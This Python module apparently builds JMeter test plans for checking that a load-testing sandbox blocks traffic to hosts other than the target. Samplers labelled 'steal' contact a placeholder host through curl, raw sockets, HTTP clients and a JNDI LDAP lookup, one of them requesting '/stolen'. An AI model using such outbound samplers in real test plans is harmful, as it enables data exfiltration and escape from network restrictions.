"""Plans of JMeter with one sampler that reaches for a host of its own."""

from __future__ import annotations

from typing import Final
from xml.sax.saxutils import escape


def _sampler(kind: str, gui: str, **properties: str | bool) -> str:
    texts = (
        f'<boolProp name="{name}">{str(value).lower()}</boolProp>'
        if isinstance(value, bool)
        else f'<stringProp name="{name}">{escape(value)}</stringProp>'
        for name, value in properties.items()
    )
    return (
        f'<{kind} guiclass="{gui}" testclass="{kind}" testname="steal">{"".join(texts)}</{kind}><hashTree/>'
    )


def _http(implementation: str) -> str:
    return _sampler("HTTPSamplerProxy", "HttpTestSampleGui", **{
        # Known only when it is asked for: a plan that writes another host does not even begin.
        "HTTPSampler.domain": "${__P(host,127.0.0.1)}", "HTTPSampler.port": "${__P(port,8000)}",
        "HTTPSampler.path": "${__groovy('http:' + '/' + '/{host}:{port}')}/stolen",
        "HTTPSampler.method": "GET", "HTTPSampler.implementation": implementation,
        "HTTPSampler.connect_timeout": "2000", "HTTPSampler.response_timeout": "2000",
    })  # fmt: skip


def _script(text: str) -> str:
    return _sampler("JSR223Sampler", "TestBeanGUI", scriptLanguage="groovy", cacheKey="true", script=text)


SAMPLERS: Final = {
    "HttpClient4": _http("HttpClient4"),
    "Java's HTTP client": _http("Java"),
    "a child process": _script("['curl', '-s', '-m', '3', '{url}'].execute().waitFor()"),
    "Socket of a script": _script("new Socket('{host}', {port}).close()"),
    "DatagramSocket of a script": _script(
        "new DatagramSocket().send(new DatagramPacket('x'.bytes, 1, InetAddress.getByName('{host}'), {port}))"
    ),
    "DatagramChannel of a script": _script(
        "java.nio.channels.DatagramChannel.open().send(java.nio.ByteBuffer.wrap('x'.bytes), "
        "new InetSocketAddress('{host}', {port}))"
    ),
    "HTTP/2 client of Java": _script(
        "java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder("
        "URI.create('{url}')).build(), java.net.http.HttpResponse.BodyHandlers.discarding())"
    ),
    "asynchronous channel": _script(
        "java.nio.channels.AsynchronousSocketChannel.open().connect("
        "new InetSocketAddress('{host}', {port})).get()"
    ),
    "LDAP by JNDI": _script(
        "new javax.naming.directory.InitialDirContext(new Hashtable(["
        "'java.naming.factory.initial': 'com.sun.jndi.ldap.LdapCtxFactory', "
        "'java.naming.provider.url': 'ldap://{host}:{port}']))"
    ),
}  # fmt: skip
"""XML by name; {host}, {port} and {url} are filled in. What needs a driver (JDBC), or a JMeter that is whole
(its TCP sampler), goes through the sockets and channels that are tried here."""

_PLAN: Final = """<?xml version="1.0" encoding="UTF-8"?>
<jmeterTestPlan version="1.2" properties="5.0">
<hashTree>
  <TestPlan guiclass="TestPlanGui" testclass="TestPlan" testname="thief"/>
  <hashTree>
    <ThreadGroup guiclass="ThreadGroupGui" testclass="ThreadGroup" testname="Users">
      <stringProp name="ThreadGroup.num_threads">1</stringProp>
      <stringProp name="ThreadGroup.ramp_time">0</stringProp>
      <stringProp name="ThreadGroup.on_sample_error">continue</stringProp>
      <boolProp name="ThreadGroup.scheduler">true</boolProp>
      <stringProp name="ThreadGroup.duration">${__P(duration,5)}</stringProp>
      <elementProp name="ThreadGroup.main_controller" elementType="LoopController">
        <stringProp name="LoopController.loops">-1</stringProp>
      </elementProp>
    </ThreadGroup>
    <hashTree>
      <ConstantTimer guiclass="ConstantTimerGui" testclass="ConstantTimer" testname="think">
        <stringProp name="ConstantTimer.delay">200</stringProp>
      </ConstantTimer>
      <hashTree/>
      <HTTPSamplerProxy guiclass="HttpTestSampleGui" testclass="HTTPSamplerProxy" testname="visit">
        <stringProp name="HTTPSampler.domain">${__P(host,127.0.0.1)}</stringProp>
        <stringProp name="HTTPSampler.port">${__P(port,8000)}</stringProp>
        <stringProp name="HTTPSampler.path">/loans</stringProp>
        <stringProp name="HTTPSampler.method">GET</stringProp>
      </HTTPSamplerProxy>
      <hashTree/>
      {sampler}
    </hashTree>
  </hashTree>
</hashTree>
</jmeterTestPlan>
"""


def plan_with(name: str) -> str:
    """A plan that visits the target, and then reaches for the other host."""
    return _PLAN.replace("{sampler}", SAMPLERS[name])


_PLACES: Final = "${__groovy(new File('places.txt').readLines('UTF-8')[ctx.threadNum])}"
_GROUP: Final = """
    <ThreadGroup guiclass="ThreadGroupGui" testclass="ThreadGroup" testname="{name}">
      <stringProp name="ThreadGroup.num_threads">{count}</stringProp>
      <stringProp name="ThreadGroup.ramp_time">0</stringProp>
      <stringProp name="ThreadGroup.on_sample_error">continue</stringProp>
      <elementProp name="ThreadGroup.main_controller" elementType="LoopController">
        <stringProp name="LoopController.loops">1</stringProp>
      </elementProp>
    </ThreadGroup>
    <hashTree>
      <HTTPSamplerProxy guiclass="HttpTestSampleGui" testclass="HTTPSamplerProxy" testname="{name}">
        <stringProp name="HTTPSampler.domain">${{__P(host,127.0.0.1)}}</stringProp>
        <stringProp name="HTTPSampler.port">${{__P(port,8000)}}</stringProp>
        <stringProp name="HTTPSampler.path">{path}</stringProp>
        <stringProp name="HTTPSampler.method">GET</stringProp>
        <boolProp name="HTTPSampler.follow_redirects">true</boolProp>
        <stringProp name="HTTPSampler.implementation">{client}</stringProp>
        <stringProp name="HTTPSampler.connect_timeout">5000</stringProp>
        <stringProp name="HTTPSampler.response_timeout">5000</stringProp>
      </HTTPSamplerProxy>
      <hashTree/>
    </hashTree>
"""


def spelling_plan(count: int, client: str) -> str:
    """A thread for each line of places.txt, and one for each `/to/N` that redirects to it.

    All of them at once: JMeter's users finish their sample when they are stopped, and no more.
    """
    head, _, rest = _PLAN.partition("    <ThreadGroup ")
    tail = rest.partition("{sampler}\n    </hashTree>\n")[2]
    groups = {"elsewhere": _PLACES, "redirected": "/to/${__groovy(ctx.threadNum)}"}
    return head + "".join(
        _GROUP.format(name=name, count=count, path=escape(path), client=client)
        for name, path in groups.items()
    ) + tail  # fmt: skip
